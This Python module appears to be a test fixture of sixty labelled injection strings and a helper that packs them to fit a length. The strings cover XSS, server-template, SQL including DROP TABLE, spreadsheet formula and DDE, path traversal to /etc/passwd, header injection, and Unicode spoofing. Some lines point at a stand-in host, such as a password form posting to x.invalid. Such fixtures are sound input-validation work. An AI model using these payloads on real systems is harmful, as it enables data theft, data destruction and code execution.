"""Sixty texts meant to do harm, each of its own kind; none is written after the manual of a certain tool."""

from __future__ import annotations

SCRIPTS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script from elsewhere": "<script src=//x.invalid/a.js></script>",
    "script never closed": "<script>alert(1)//",
    "script as module": "<script type=module>alert(1)</script>",
    "nested script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "picture that fails": "<img src=x onerror=alert(1)>",
    "picture, out of an attribute": '"><img src=x onerror=alert(1)>',
    "picture, out of an apostrophe": "'><img src=x onerror=alert(1)>",
    "attribute that gains focus": '" autofocus onfocus=alert(1) x="',
    "attribute by apostrophe": "' onmouseover='alert(1)",
    "attribute without quotes": "x onclick=alert(1)",
    "backtick": "`onmouseover=alert(1)`",
    "svg": "<svg onload=alert(1)>",
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg that moves": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "mathematics": "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "details that open": "<details open ontoggle=alert(1)>",
    "film": "<video><source onerror=alert(1)></video>",
    "body": "<body onload=alert(1)>",
    "frame": "<iframe src=javascript:alert(1)></iframe>",
    "frame with a page": "<iframe srcdoc='<script>alert(1)</script>'>",
    "object": "<object data=javascript:alert(1)>",
    "embedded": "<embed src=data:text/html,x>",
    "base": "<base href=//x.invalid/>",
    "refresh": "<meta http-equiv=refresh content='0;url=//x.invalid'>",
    "form": "<form action=//x.invalid><input name=password>",
    "link": "<a href='javascript:alert(1)'>x</a>",
    "javascript": "javascript:alert(1)",
    "javascript with a tab": "java\tscript:alert(1)",
    "data address": "data:text/html;base64,PHNjcmlwdD4=",
    "out of a textarea": "</textarea><script>alert(1)</script>",
    "out of a title": "</title><script>alert(1)</script>",
    "out of a choice": "</option></select><script>alert(1)</script>",
    "out of a style": "</style><script>alert(1)</script>",
    "out of a script": "</script><script>alert(1)</script>",
    "out of a comment": "--><script>alert(1)</script><!--",
    "out of a note": "]]><script>alert(1)</script>",
    "out of JSON": '"}]};alert(1)//',
    "style": "<style>@import'//x.invalid/a.css';</style>",
    "style in an attribute": "<p style=background:url(//x.invalid)>",
    "style expression": "width:expression(alert(1))",
    "template of the server": "{{ 1234*8 }}",
    "tag of the server": "{% load x %}{% include 'x' %}",
    "template of a script": "${1234*8}",
    "template of ruby": "#{1234*8}<%= 1234*8 %>",
    "format": "%(password)s {0.__class__} %s %n",
    "formula": "=1+1",
    "formula that calls": '=HYPERLINK("//x.invalid";"x")',
    "formula by sign": "@SUM(1+1)*cmd|' /C x'!A0",
    "formula by minus": "-1+1",
    "formula after a tab": "\t=1+1",
    "sql": "'; DROP TABLE inventory_instrument; --",
    "sql that is true": "' OR '1'='1",
    "path": "../../../../etc/passwd",
    "header": "x\r\nSet-Cookie: a=b",
    "right to left": "\u202egnp.exe\u202c",
    "zero width": "Or\u200bgan\u200d\ufeff",
    "homoglyph": "Оrgan оf Аston",
    "overlong": "%C0%BCscript%C0%BEalert(1)",
}
UNSEEN = {
    "null byte": "a\0b",
    "escape": "a\x1b[31mb",
    "bell": "a\x07b",
    "control of the second table": "a\x9bb",
    "half a character": "a\ud800b",
    "no character": "a\uffffb",
}
"""What is refused in every text, whatever else stands in it."""
EVERYTHING = "\n".join(SCRIPTS.values())


def packed(room: int, start: int = 0) -> str:
    """As many of the texts as have room, from one of them on; a first sign that is never markup."""
    chosen: list[str] = []
    texts = list(SCRIPTS.values())
    for number in range(len(texts)):
        one = texts[(start + number) % len(texts)]
        if len(one) + 1 > room:
            continue
        chosen.append(one)
        room -= len(one) + 1
    return " ".join(chosen)
